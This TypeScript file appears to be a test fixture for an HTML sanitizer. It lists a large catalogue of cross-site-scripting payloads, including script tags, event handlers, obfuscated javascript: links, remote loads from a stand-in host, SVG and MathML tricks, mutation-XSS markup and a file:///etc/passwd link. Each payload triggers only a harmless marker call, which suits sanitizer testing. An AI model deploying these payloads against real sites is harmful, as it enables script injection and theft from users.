/** A text that runs code, loads something or leads elsewhere if a page treats it as markup. */
export interface Attack {
  readonly what: string
  readonly html: string
}

/** A host that must never be requested. */
const ELSEWHERE = 'https://elsewhere.example'

const decimal = (text: string) => [...text].map((sign) => `&#${sign.codePointAt(0)}`).join('')
const closed = (text: string) => [...text].map((sign) => `&#${sign.codePointAt(0)};`).join('')
const padded = (text: string) =>
  [...text].map((sign) => `&#${String(sign.codePointAt(0)).padStart(7, '0')}`).join('')
const hexadecimal = (text: string) =>
  [...text].map((sign) => `&#x${sign.codePointAt(0)?.toString(16)};`).join('')
const base64 = (text: string) => Buffer.from(text).toString('base64')

/** Each is given the code to run: a call that reports that it ran. */
type Written = { readonly [what: string]: (run: string) => string }

const scripts: Written = {
  'a script': (run) => `<script>${run}</script>`,
  'a script in capitals': (run) => `<ScRiPt>${run}</sCrIpT>`,
  'a script after text that looks closed': (run) => `"><script>${run}</script>`,
  'a script that is not closed': (run) => `<script>${run}//`,
  'a script with space in its end': (run) => `<script>${run}</script\t\n foo="1">`,
  'a script with a slash for a space': (run) => `<script/x>${run}</script>`,
  'a script of another address': () => `<script src="${ELSEWHERE}/1.js"></script>`,
  'a script of a data address': (run) => `<script src="data:text/javascript,${run}"></script>`,
  'a module': (run) => `<script type="module">${run}</script>`,
  'a script within a script': (run) => `<scr<script>ipt>${run}</scr</script>ipt>`,
  'a script in two halves': (run) => `<<script>script>${run}<</script>/script>`,
  'a script after a broken tag': (run) => `<b <script>${run}</script>`,
  'a script in a list that is not open': (run) => `<li><script>${run}</script>`,
  'a script behind a comment that ends early': (run) => `<!--><script>${run}</script>-->`,
  'a script behind a comment that ends with a mark': (run) => `<!-- --!><script>${run}</script>-->`,
  'a script behind a short comment': (run) => `<!---><script>${run}</script>-->`,
  'a script behind a declaration': (run) => `<!DOCTYPE x [<!ENTITY y "z">]><script>${run}</script>`,
  'a script behind a processing instruction': (run) => `<?xml version="1.0"?><script>${run}</script>`,
  'a script in a CDATA section': (run) => `<![CDATA[<script>${run}</script>]]>`,
  'a script with an XML namespace': (run) =>
    `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`,
  'an import map': (run) =>
    `<script type="importmap">{"imports":{"x":"data:text/javascript,${run}"}}</script>`,
}

const handlers: Written = {
  'an image that fails': (run) => `<img src=x onerror=${run}>`,
  'an image with a quoted handler': (run) => `<img src="x" onerror="${run}">`,
  'an image with slashes for spaces': (run) => `<img/src=x/onerror=${run}>`,
  'an image with line breaks for spaces': (run) => `<img\nsrc=x\nonerror\n=\n${run}\n>`,
  'an image with form feeds for spaces': (run) => `<img\fsrc=x\fonerror=${run}>`,
  'an image that is not closed': (run) => `<img src=x onerror=${run} `,
  'an image with a handler in entities': (run) => `<img src=x onerror="${decimal(run)}">`,
  'an image with a handler in hexadecimal entities': (run) => `<img src=x onerror="${hexadecimal(run)}">`,
  'an image in the old spelling': (run) => `<image src=x onerror=${run}>`,
  'an image with two sources': (run) => `<img src="a" src=x onerror=${run}>`,
  'an image with a candidate list': (run) => `<img srcset="x 1x" onerror=${run}>`,
  'an image with a quote in its text': (run) => `<img alt="\`><img src=x onerror=${run}>" src=x>`,
  'an image with a broken quote': (run) => `<img """><img src=x onerror=${run}>">`,
  'an image with a backtick': (run) => `<img src=\`x\`onerror=${run}>`,
  'an image whose title breaks out': (run) => `<img title="&quot;><img src=x onerror=${run}>" src="y">`,
  'a picture': (run) => `<picture><source srcset=x><img src=x onerror=${run}></picture>`,
  'a body that loads': (run) => `<body onload=${run}>`,
  'a page that shows': (run) => `<body onpageshow=${run}>`,
  'a focus that comes by itself': (run) => `<input autofocus onfocus=${run}>`,
  'a focus on any element': (run) => `<b tabindex=1 autofocus onfocus=${run}>x</b>`,
  'a select that takes focus': (run) => `<select autofocus onfocus=${run}></select>`,
  'a text area that takes focus': (run) => `<textarea autofocus onfocus=${run}></textarea>`,
  'a key to open': (run) => `<a accesskey=x onclick=${run} href=#>x</a>`,
  'details that open': (run) => `<details open ontoggle=${run}>x</details>`,
  'a video': (run) => `<video src=x onerror=${run}></video>`,
  'a video source': (run) => `<video><source onerror=${run} src=x></video>`,
  'a sound': (run) => `<audio src=x onerror=${run}></audio>`,
  'a track': (run) => `<video><track default src=x onerror=${run}></video>`,
  'a marquee': (run) => `<marquee onstart=${run}>x</marquee>`,
  'an animation that starts': (run) =>
    `<style>@keyframes x{from{left:0}}</style><b style="animation:x 1s" onanimationstart=${run}>x</b>`,
  'a transition that ends': (run) => `<b style="transition:color 1s" ontransitionend=${run}>x</b>`,
  'a link that is passed over': (run) => `<a href="#" onmouseover=${run}>x</a>`,
  'a link that is pressed': (run) => `<a href="#" onpointerdown=${run}>x</a>`,
  'a dialog that is opened': (run) => `<dialog open onbeforetoggle=${run}>x</dialog>`,
  'a popover': (run) => `<button popovertarget=x>x</button><b popover id=x onbeforetoggle=${run}>x</b>`,
  'content that becomes visible': (run) =>
    `<b style="content-visibility:auto" oncontentvisibilityautostatechange=${run}>x</b>`,
  'a slot that changes': (run) =>
    `<div><template shadowrootmode=open><slot onslotchange=${run}></slot></template>x</div>`,
  'a handler with a separator from another alphabet': (run) => `<img\u3000src=x\u3000onerror=${run}>`,
  'a handler with a long s': (run) => `<\u017fcript>${run}</\u017fcript>`,
  'a handler in full-width letters': (run) => `\uff1cimg src=x onerror=${run}\uff1e`,
}

const addresses: Written = {
  'a link that runs': (run) => `<a href="javascript:${run}" autofocus>x</a>`,
  'a link in capitals': (run) => `<a href="JaVaScRiPt:${run}">x</a>`,
  'a link with a tab': (run) => `<a href="java\tscript:${run}">x</a>`,
  'a link with a line break': (run) => `<a href="java\nscript:${run}">x</a>`,
  'a link with a tab as entity': (run) => `<a href="jav&#x09;ascript:${run}">x</a>`,
  'a link with a named tab': (run) => `<a href="java&Tab;script:${run}">x</a>`,
  'a link with a named line break': (run) => `<a href="java&NewLine;script:${run}">x</a>`,
  'a link with a named colon': (run) => `<a href="javascript&colon;${run}">x</a>`,
  'a link with a space before': (run) => `<a href="  javascript:${run}">x</a>`,
  'a link with a control character before': (run) => `<a href="\u0001javascript:${run}">x</a>`,
  'a link with a control character as entity': (run) => `<a href="&#14;javascript:${run}">x</a>`,
  'a link in entities': (run) => `<a href="${closed(`javascript:${run}`)}">x</a>`,
  'a link in entities that are not closed': (run) => `<a href="${decimal(`javascript:${run}`)}">x</a>`,
  'a link in entities with zeros': (run) => `<a href="${padded(`javascript:${run}`)}">x</a>`,
  'a link in hexadecimal entities': (run) => `<a href="${hexadecimal(`javascript:${run}`)}">x</a>`,
  'a link with a comment in it': (run) => `<a href="javascript:/*--></title></style></script>*/${run}">x</a>`,
  'a link with a line of its own': (run) => `<a href="javascript://x%0a${run}">x</a>`,
  'a link without quotes': (run) => `<a href=javascript:${run}>x</a>`,
  'a link of an old browser': (run) => `<a href="vbscript:${run}">x</a>`,
  'a link of an older browser': (run) => `<a href="livescript:${run}">x</a>`,
  'a link to a page of data': (run) => `<a href="data:text/html,<script>${run}</script>">x</a>`,
  'a link to a coded page of data': (run) =>
    `<a href="data:text/html;base64,${base64(`<script>${run}</script>`)}">x</a>`,
  'a link to a source view': () => `<a href="view-source:${ELSEWHERE}">x</a>`,
  'a link to a file': () => '<a href="file:///etc/passwd">x</a>',
  'a link to a blob': () => '<a href="blob:null/1">x</a>',
  'a link with a right-to-left mark': (run) => `<a href="\u202ejavascript:${run}">x</a>`,
  'a link with an invisible space': (run) => `<a href="java\u200bscript:${run}">x</a>`,
  'a link with another address': (run) => `<a xlink:href="javascript:${run}">x</a>`,
  'a link that pings': () => `<a href="#" ping="${ELSEWHERE}/ping">x</a>`,
  'an image that runs': (run) => `<img src="javascript:${run}">`,
  'an image in low resolution that runs': (run) => `<img src=x lowsrc="javascript:${run}">`,
  'an image with a drawing that runs': (run) =>
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>">`,
  'a background': (run) => `<table background="javascript:${run}"><tr><td>x</td></tr></table>`,
  'a quotation of somewhere': (run) => `<blockquote cite="javascript:${run}">x</blockquote>`,
}

const loads: Written = {
  'an image from elsewhere': () => `<img src="${ELSEWHERE}/1.png">`,
  'an image from elsewhere without a scheme': () => '<img src="//elsewhere.example/2.png">',
  'an image from elsewhere with backslashes': () => '<img src="\\\\elsewhere.example/3.png">',
  'an image from elsewhere with a slash and a backslash': () => '<img src="/\\elsewhere.example/4.png">',
  'an image from elsewhere with a tab': () => '<img src="/\t/elsewhere.example/5.png">',
  'an image from elsewhere with a line break': () => '<img src="ht\ntps://elsewhere.example/6.png">',
  'an image from elsewhere with one slash': () => '<img src="https:/elsewhere.example/7.png">',
  'an image from elsewhere with no slash': () => '<img src="https:elsewhere.example/8.png">',
  'an image from elsewhere with control characters': () =>
    '<img src="\u0001\u001f https://elsewhere.example/9.png">',
  'an image from elsewhere for big screens': () => `<img src=x srcset="${ELSEWHERE}/10.png 2x">`,
  'a style': () => `<style>@import url(${ELSEWHERE}/1.css);</style>`,
  'a style with a picture': () => `<p style="background:url(${ELSEWHERE}/11.png)">x</p>`,
  'a style with an expression': (run) => `<p style="width:expression(${run})">x</p>`,
  'a style that runs': (run) => `<p style="background:url(javascript:${run})">x</p>`,
  'a style that covers the page': () =>
    '<a style="position:fixed;inset:0;z-index:9999" href="https://safe.example">x</a>',
  'a sheet of styles': () => `<link rel="stylesheet" href="${ELSEWHERE}/2.css">`,
  'a hint to load': () => `<link rel="preload" as="script" href="${ELSEWHERE}/2.js">`,
  'a hint to connect': () => `<link rel="preconnect" href="${ELSEWHERE}">`,
  'a manifest': () => `<link rel="manifest" href="${ELSEWHERE}/manifest.json">`,
  'a frame': () => `<iframe src="${ELSEWHERE}/frame"></iframe>`,
  'a frame that runs': (run) => `<iframe src="javascript:${run}"></iframe>`,
  'a frame with a page in it': (run) => `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  'a frame with a page in entities': (run) =>
    `<iframe srcdoc="${closed(`<script>${run}</script>`)}"></iframe>`,
  'a frame that loads': (run) => `<iframe onload=${run}></iframe>`,
  'a set of frames': (run) => `<frameset onload=${run}><frame src="${ELSEWHERE}/frames"></frameset>`,
  'an object': () => `<object data="${ELSEWHERE}/object"></object>`,
  'an object that runs': (run) => `<object data="data:text/html,<script>${run}</script>"></object>`,
  'an embedded page': (run) => `<embed src="data:text/html,<script>${run}</script>">`,
  'an applet': () => `<applet code="x" codebase="${ELSEWHERE}/"></applet>`,
  'a form': () => `<form action="${ELSEWHERE}/form"><button autofocus>x</button></form>`,
  'a form that runs': (run) => `<form action="javascript:${run}"><input type=submit></form>`,
  'a button with a form of its own': (run) => `<button formaction="javascript:${run}">x</button>`,
  'a button that is a picture': () => `<input type=image src="${ELSEWHERE}/12.png">`,
  'a base for addresses': () => `<base href="${ELSEWHERE}/"><img src="13.png">`,
  'a base that runs': (run) => `<base href="javascript:/a/"><a href="#${run}">x</a>`,
  'a refresh': () => `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}/refresh">`,
  'a refresh that runs': (run) =>
    `<meta http-equiv="refresh" content="0;url=data:text/html,<script>${run}</script>">`,
  'a policy': () => `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  'a video poster': () => `<video poster="${ELSEWHERE}/14.png"></video>`,
  'a sound from elsewhere': () => `<audio src="${ELSEWHERE}/1.mp3" autoplay></audio>`,
  'a portal': () => `<portal src="${ELSEWHERE}/portal"></portal>`,
}

const drawings: Written = {
  'a drawing that loads': (run) => `<svg onload=${run}></svg>`,
  'a drawing without an end': (run) => `<svg/onload=${run}>`,
  'a drawing with a script': (run) => `<svg><script>${run}</script></svg>`,
  'a drawing with a script in entities': (run) => `<svg><script>${closed(run)}</script></svg>`,
  'a drawing with a script of an address': (run) => `<svg><script href="data:text/javascript,${run}"/></svg>`,
  'a drawing with a link': (run) => `<svg><a xlink:href="javascript:${run}"><text y=9>x</text></a></svg>`,
  'a drawing with an animation': (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  'a drawing that sets a link': (run) =>
    `<svg><a><animate attributeName=href values="javascript:${run}"/><text y=9>x</text></a></svg>`,
  'a drawing that sets a value': (run) => `<svg><set attributeName=onmouseover to="${run}"/></svg>`,
  'a drawing that uses another': () => `<svg><use href="${ELSEWHERE}/1.svg#x"/></svg>`,
  'a drawing with a picture': () => `<svg><image href="${ELSEWHERE}/15.png"/></svg>`,
  'a drawing with a page in it': (run) =>
    `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
  'a drawing with a handler': (run) =>
    `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${run}</handler></svg>`,
  'a formula with a link': (run) => `<math href="javascript:${run}">x</math>`,
  'a formula with an action': (run) =>
    `<math><maction actiontype="statusline" xlink:href="javascript:${run}">x</maction></math>`,
  'a formula with an annotation': (run) =>
    `<math><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml></math>`,
}

/** Markup that is harmless when it is parsed once, and something else when it is written out and parsed again. */
const mutations: Written = {
  'a style in a drawing': (run) => `<svg><style><img src=x onerror=${run}></style></svg>`,
  'a title in a drawing': (run) => `<svg></p><title><style><img src=x onerror=${run}></style></title></svg>`,
  'a formula in a table in a form': (run) =>
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
  'a formula with a comment': (run) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  'a formula with a malignmark': (run) =>
    `<math><mtext><table><malignmark><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  'a drawing with a description': (run) =>
    `<svg><desc><noscript><img title="</noscript><img src=x onerror=${run}>"></noscript></desc></svg>`,
  'text for browsers without scripts': (run) =>
    `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  'text for browsers without frames': (run) =>
    `<noframes><p title="</noframes><img src=x onerror=${run}>"></noframes>`,
  'a template': (run) => `<template><img src=x onerror=${run}></template>`,
  'a template that is a shadow': (run) =>
    `<div><template shadowrootmode="open"><img src=x onerror=${run}></template></div>`,
  'a text area that is left': (run) =>
    `<textarea><p title="</textarea><img src=x onerror=${run}>"></textarea>`,
  'a title that is left': (run) => `<title><p title="</title><img src=x onerror=${run}>"></title>`,
  'a style that is left': (run) => `<style><p title="</style><img src=x onerror=${run}>"></style>`,
  'old text that is left': (run) => `<xmp><p title="</xmp><img src=x onerror=${run}>"></xmp>`,
  'a listing': (run) => `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  'plain text': (run) => `<plaintext><img src=x onerror=${run}>`,
  'an option that is left': (run) =>
    `<select><option><style></option></select><img src=x onerror=${run}></style>`,
  'a frame that is text': (run) => `<iframe><p title="</iframe><img src=x onerror=${run}>"></iframe>`,
  'an attribute with a backtick': (run) => `<p title="\`\`onmouseover=${run}">x</p>`,
  'an attribute with entities of markup': (run) =>
    `<p title="&lt;img src=x onerror=${run}&gt;">&lt;img src=x onerror=${run}&gt;</p>`,
  'entities of entities': (run) => `&amp;lt;img src=x onerror=${run}&amp;gt;`,
  'a name of the page’s own': () =>
    '<form id="attributes"><input name="getElementById"></form><img name="body">',
  'deep nesting': (run) => `${'<b>'.repeat(600)}<img src=x onerror=${run}>`,
  'deep nesting of drawings': (run) => `${'<svg>'.repeat(300)}<style><img src=x onerror=${run}></style>`,
  'an attribute that is split by another tag': (run) => `<a href="x<b title='" onmouseover=${run} '>">x</a>`,
  'a tag name with odd signs': (run) => `<img\u0001 src=x onerror=${run}><b/onload=${run}/></b\u2028>`,
  'an element of nobody’s making': (run) =>
    `<x-y onclick=${run} is="img" contenteditable autofocus onfocus=${run}>x</x-y>`,
}

/** All of them. Each one runs `ran("{its index in this list}")`, without a space or quote that would end it. */
export const attacks: readonly Attack[] = Object.entries({
  ...scripts,
  ...handlers,
  ...addresses,
  ...loads,
  ...drawings,
  ...mutations,
}).map(([what, html], place) => ({ what, html: html(`ran(${place})`) }))
